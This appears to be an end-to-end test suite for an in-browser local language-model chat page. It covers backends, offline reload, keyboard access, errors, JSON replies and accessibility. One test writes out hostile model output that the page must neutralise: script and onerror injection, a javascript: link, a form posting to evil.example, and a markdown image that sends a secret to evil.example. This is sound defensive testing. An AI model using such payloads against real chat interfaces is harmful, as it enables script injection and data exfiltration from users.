// @module-tag chromium
/**
 * The chat page as built, in Chromium, on both backends: load, chat, stop, reload with the model unreachable, keyboard
 * only, hostile output.
 */
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import {
  askAndStop,
  BRIEF,
  finished,
  loadAxe,
  objections,
  PATIENCE,
  ready,
  replies,
  saveSettings,
  soon,
  testChat,
} from './chat_page';

const MODEL = /\.gguf$/;

describe.each([
  { backend: 'wasm', name: /^Running on the CPU, (1 thread|\d+ threads)$/, query: '?backend=wasm' },
  { backend: 'webgpu', name: /^Running with WebGPU: /, query: '?backend=webgpu&software=1' },
] as const)('on $backend', ({ backend, name, query }) => {
  const chat = testChat({ scripts: [BRIEF], launch: { webgpu: backend === 'webgpu' } });

  test('load, chat, stop, reload from the cache with the model unreachable', async () => {
    const page = await chat.visit(query);
    await soon(() => page.innerText('#about-summary')).toMatch(name);
    expect(chat.site.asked.filter((path) => MODEL.test(path)).length).toBeGreaterThan(0);

    await page.fill('#prompt', 'Hello!');
    await page.click('#send');
    await finished(page, 1);
    expect((await replies(page))[0].trim()).not.toBe('');
    await soon(() => page.innerText('#messages .assistant .foot')).toMatch(
      /[\d.,]+\stok\/s · [\d.]+\sm?s to first token/,
    );

    // as hot as it gets, and the end, which the prompt has seen, made unlikely: it seldom comes before the stop
    await saveSettings(page, { temperature: 2, topK: 0, topP: 1, minP: 0, repetitionPenalty: 2, maxTokens: 3000 });
    for (let attempt = 0; !(await askAndStop(page, 'Tell me more.')); attempt++) expect(attempt).toBeLessThan(20);
    await soon(() => page.evaluate(() => document.activeElement?.id)).toBe('prompt');

    // the server delivers the page, but no model
    await saveSettings(page, { maxTokens: 24 });
    const before = await page.innerText('#messages');
    chat.site.refuse = MODEL;
    chat.site.asked.length = 0;
    await page.reload();
    await ready(page);
    expect(chat.site.asked.filter((path) => MODEL.test(path))).toEqual([]);
    await soon(() => page.innerText('#messages')).toBe(before);
    const said = (await replies(page)).length;
    await page.fill('#prompt', 'Still there?');
    await page.press('#prompt', 'Enter');
    await finished(page, said + 1);
  });
});

describe('the page', () => {
  const chat = testChat({ scripts: [BRIEF] });

  const errorShown = async (page: Page): Promise<{ title: string; text: string; buttons: string[] }> => {
    await page.waitForSelector('#error:visible', { timeout: PATIENCE });
    await soon(() => page.textContent('#error')).not.toMatch(/\.\.(\s|$)/);
    return {
      title: await page.innerText('#error-title'),
      text: await page.innerText('#error-text > p'),
      buttons: await page.locator('#error button:visible').allInnerTexts(),
    };
  };

  test('keyboard only', async () => {
    const page = await chat.visit('?backend=wasm');
    const focused = (): Promise<string> =>
      page.evaluate(() => document.activeElement?.id || document.activeElement?.className || '');
    /** Tabs on until the element has the focus, as a person without a mouse does. */
    const reach = async (id: string, key = 'Tab'): Promise<void> => {
      for (let i = 0; i < 40 && (await focused()) !== id; i++) await page.keyboard.press(key);
      await soon(() => focused()).toBe(id);
      expect(
        await page.evaluate(() => getComputedStyle(document.activeElement ?? document.body).outlineStyle),
      ).not.toBe('none');
    };
    await reach('prompt');
    await page.keyboard.type('Hello!');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.querySelector('#messages .assistant .body')?.textContent, undefined, {
      timeout: PATIENCE,
    });
    await page.keyboard.press('Escape');
    await finished(page, 1);

    await reach('open-settings', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#settings[open]');
    await reach('system');
    await page.keyboard.type('Be brief.');
    await page.keyboard.press('Escape');
    await soon(() => page.locator('#settings[open]').count()).toBe(0);
    // what is not saved is asked about
    await page.waitForSelector('.question');
    await page.keyboard.press('Escape');
    await page.waitForSelector('.question', { state: 'detached' });
    await soon(() => focused()).toBe('open-settings');

    await reach('choose', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#models[open]');
    await reach('address');
    await page.keyboard.press('Escape');
    await soon(() => page.locator('#models[open]').count()).toBe(0);
    await soon(() => focused()).toBe('choose');

    await reach('new-chat');
    await page.keyboard.press('Enter');
    await soon(() => page.locator('#messages li').count()).toBe(0);
    await soon(() => focused()).toBe('prompt');
  });

  test('an error says what to do first, keeps the technical message in its details, and another model loads after it', async () => {
    const page = await chat.context.newPage();
    await page.goto(`${chat.site.url}?backend=wasm&model=${encodeURIComponent(`${chat.site.url}chat/nothing.gguf`)}`);
    expect(await errorShown(page)).toEqual({
      title: 'The model cannot be reached: nothing.gguf',
      text: expect.stringMatching(/^Check the .*\. Rivulet tiny answers instead\.$/),
      buttons: ['Try again', 'Choose another model'],
    });
    await page.waitForSelector('#about:visible', { timeout: PATIENCE });
    await soon(() => page.innerText('#model-name')).toBe('Rivulet tiny');
    await soon(() => page.isVisible('#error details p')).toBe(false);
    await page.click('#error summary');
    await soon(() => page.innerText('#error details p')).toMatch(/nothing\.gguf.*404/);
    await page.click('#error-choose');
    await page.setInputFiles('#file', fileURLToPath(new URL('../public/models/rivulet-tiny.gguf', import.meta.url)));
    await page.waitForFunction(
      () => document.querySelector('#model-name')?.textContent === 'rivulet-tiny.gguf',
      undefined,
      { timeout: PATIENCE },
    );
    await soon(() => page.isVisible('#error')).toBe(false);
    await page.setInputFiles('#file', {
      name: 'broken.gguf',
      mimeType: 'application/octet-stream',
      buffer: Buffer.from('GGUF, but not a model'),
    });
    expect((await errorShown(page)).title).toBe('This model cannot be used: broken.gguf');
    await soon(() => page.innerText('#model-name')).toBe('rivulet-tiny.gguf');
  });

  test('WebGPU that is chosen and missing: one button goes on with the CPU, also at the next visit', async () => {
    const page = await chat.context.newPage();
    await page.goto(`${chat.site.url}?backend=webgpu`);
    expect(await errorShown(page)).toMatchObject({
      title: 'WebGPU is not available here',
      text: expect.stringMatching(/^Use the CPU/),
      buttons: ['Use the CPU', 'Try again', 'Choose another model'],
    });
    await page.click('#error-cpu');
    await ready(page);
    await soon(() => page.innerText('#about-summary')).toMatch(/^Running on the CPU/);
    await soon(() => page.evaluate(() => JSON.parse(localStorage['rivulet-chat.settings']))).toMatchObject({
      backend: 'wasm',
    });
  });

  test('tools that fill the context: the message is not sent, and the page says what to do', async () => {
    const page = await chat.visit('?backend=wasm&context=64');
    await page.fill('#prompt', 'Hello!');
    await page.press('#prompt', 'Enter');
    await page.waitForSelector('#composer-note:has-text("Switch tools off in Settings")', { timeout: PATIENCE });
    await soon(() => page.locator('#messages li').count()).toBe(0);
    await soon(() => page.inputValue('#prompt')).toBe('Hello!');
  });

  test('replies as JSON, by the keyboard: a schema that is refused, one that holds, and a text of megabytes', async () => {
    const asked: string[] = [];
    chat.context.on('request', (request) => {
      if (!request.serviceWorker() && /\/(?:json_dialog|grammar)-/.test(request.url())) asked.push(request.url());
    });
    const page = await chat.visit();
    expect(asked).toEqual([]);
    const note = page.locator('#json-problem');
    await page.focus('#json-form');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#json-schema:focus');
    await loadAxe(page);
    expect(await objections(page, '#json-dialog')).toEqual([]);
    const save = async (schema: string): Promise<void> => {
      await page.fill('#json-schema', schema);
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
    };
    await save('{"type": "object"');
    await soon(() => note.innerText()).toMatch(/^The schema is not JSON\./);
    await save('{"properties": {"a": {"pattern": "(a)\\\\1"}}}');
    await soon(() => note.innerText()).toBe(
      'The schema cannot be enforced at /properties/a/pattern: a back-reference in a regular expression.',
    );
    await soon(() => page.getAttribute('#json-schema', 'aria-invalid')).toBe('true');
    await soon(() => page.evaluate(() => document.activeElement?.id)).toBe('json-schema');
    const properties = { price: { type: 'number' }, city: { enum: ['Lisbon', 'Porto'] } };
    await save(
      JSON.stringify({ type: 'object', properties, required: ['price', 'city'], additionalProperties: false }),
    );
    await page.waitForSelector('#prompt:focus');
    await page.keyboard.type('its price was 454 and its city Lisbon');
    await page.keyboard.press('Enter');
    await finished(page, 1);
    expect(await page.innerText('#messages .assistant code')).toMatch(
      /^\{\n  "price": -?\d[^\n]*,\n  "city": "(?:Lisbon|Porto)"\n\}\n?$/,
    );
    expect(asked).toHaveLength(2);

    // the form belongs to the conversation
    await page.click('#new-chat');
    await soon(() => page.getAttribute('#json-form', 'aria-label')).toBe('Reply as JSON');
    await page.focus('#prompt');
    await page.evaluate(() => document.execCommand('insertText', false, 'all work and no play '.repeat(150_000)));
    await soon(() => page.innerText('#composer-note')).toMatch(/takes 200,000 characters\..* cut off\./);
    await page.press('#prompt', 'Enter');
    await soon(() => page.innerText('#composer-note')).toMatch(
      /^This message has \d{3},\d{3} characters\. About [\d,]+ fit into what the model can read\./,
    );
    await soon(() => page.evaluate(() => document.querySelector<HTMLTextAreaElement>('#prompt')!.value.length)).toBe(
      200_000,
    );
  });

  test('what the address gets wrong is said', async () => {
    const page = await chat.visit('?backend=gpu&context=abc');
    await soon(() => page.locator('#address-notes p').allInnerTexts()).toEqual([
      '“backend=gpu” in the address is ignored. Allowed: auto, webgpu, wasm.',
      '“context=abc” in the address is ignored. Allowed: a whole number from 1.',
    ]);
    await page.goto(`${chat.site.url}?backend=wasm`);
    await ready(page);
    await soon(() => page.isVisible('#address-notes')).toBe(false);
  });

  test('says whether a model fits', async () => {
    const page = await chat.visit();
    await page.click('#choose');
    await page.fill('#address', `${chat.site.url}models/rivulet-tiny.gguf?another`);
    await page.click('#address-look');
    await page.waitForSelector('#address-estimate:has-text("tokens a second")', { timeout: PATIENCE });
    await soon(() => page.innerText('#address-estimate')).toMatch(
      /^Fits on this device: [\d.]+\sMB to download \([\d.]+\sGB free\), up to [\d.]+\sMB of memory, about [\d.,]+\stokens a second on the CPU\.$/,
    );
    await page.fill('#address', `${chat.site.url}icon.svg`);
    await page.click('#address-look');
    await page.waitForSelector('#address-estimate:has-text("GGUF")', { timeout: PATIENCE });
  });

  test('what a model writes runs nothing and asks for nothing', async () => {
    const hostile = [
      '<img src="https://evil.example/x" onerror="window.hit = 1"><script>window.hit = 1</script>',
      '![secret](https://evil.example/?q=secret) [click](javascript:window.hit=1) [fine](https://example.org)',
      '<form action="https://evil.example"><input name=q></form> <style>body{display:none}</style>',
      '## Heading\n\n**bold** and `code`\n\n```html\n<b>shown</b>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    ].join('\n\n');
    await chat.context.addInitScript(
      (content) =>
        localStorage.setItem(
          'rivulet-chat.turns',
          JSON.stringify([
            { role: 'user', content: '<b>me</b>' },
            { role: 'assistant', content },
          ]),
        ),
      hostile,
    );
    const strangers: string[] = [];
    chat.context.on('request', (request) => request.url().includes('evil.example') && strangers.push(request.url()));
    const page = await chat.visit();
    const body = page.locator('#messages .assistant .body');
    await soon(() => body.locator('img, script, form, input, style, [onerror]').count()).toBe(0);
    await soon(() =>
      body
        .locator('a')
        .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')])),
    ).toEqual([
      [null, 'noopener noreferrer'],
      ['https://example.org', 'noopener noreferrer'],
    ]);
    await soon(() => body.locator('strong').innerText()).toBe('bold');
    await soon(() => body.locator('pre').innerText()).toContain('<b>shown</b>');
    await soon(() => body.locator('td').count()).toBe(2);
    await soon(() => page.innerText('#messages .user .body')).toBe('<b>me</b>');
    // below the speaker's name, and not in its style
    await soon(() => body.locator('h3').evaluate((heading) => getComputedStyle(heading).fontSize)).toBe('19px');
    await soon(() => body.getAttribute('dir')).toBe('auto');
    await soon(() => page.evaluate(() => 'hit' in window)).toBe(false);
    expect(strangers).toEqual([]);
  });

  test.each(['light', 'dark'] as const)(
    'has nothing that an accessibility checker objects to, %s',
    async (colorScheme) => {
      const page = await chat.visit('?backend=wasm&context=abc');
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width: 320, height: 640 });
      await loadAxe(page);
      await soon(() => page.isVisible('#first-run')).toBe(true);
      expect(await objections(page)).toEqual([]);
      await soon(() => page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      await page.fill('#prompt', 'Hello!');
      await page.press('#prompt', 'Enter');
      await page.waitForSelector('#messages .assistant', { timeout: PATIENCE });
      await page.keyboard.press('Escape');
      await page.waitForSelector('#send:visible', { timeout: PATIENCE });
      await soon(() => page.isVisible('#first-run')).toBe(false);
      await page.fill('#prompt', 'Set a timer for 10 minutes');
      await page.press('#prompt', 'Enter');
      await page.waitForSelector('.call.done .call-left', { timeout: PATIENCE });
      await page.waitForSelector('#send:visible', { timeout: PATIENCE });
      expect(await objections(page)).toEqual([]);
      await page.fill('#prompt', 'Add call the dentist to my to-do list');
      await page.press('#prompt', 'Enter');
      await page.waitForSelector('.call.asking', { timeout: PATIENCE });
      expect(await objections(page)).toEqual([]);
      await soon(() => page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      await page.waitForSelector('#send:visible', { timeout: PATIENCE });
      // on a screen this narrow the side bar alone has the button of the settings
      const openSettings = async (): Promise<void> => {
        await page.click('#sidebar-toggle');
        await page.click('#sidebar [data-opens=open-settings]');
      };
      for (const [open, name] of [
        [() => page.click('#choose'), '#models'],
        [openSettings, '#settings'],
      ] as const) {
        await open();
        await page.waitForSelector(`${name}[open]`);
        expect(await objections(page)).toEqual([]);
        await page.keyboard.press('Escape');
      }
      await openSettings();
      await page.click('#open-notes');
      await page.waitForSelector('#notes .entry');
      expect(await objections(page)).toEqual([]);
      await page.keyboard.press('Escape');
      await page.keyboard.press('Escape');
      await page.setInputFiles('#file', {
        name: 'broken.gguf',
        mimeType: 'application/octet-stream',
        buffer: Buffer.from('GGUF, but not a model'),
      });
      await errorShown(page);
      await page.click('#error summary');
      expect(await objections(page)).toEqual([]);
      await soon(() => page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    },
  );
});
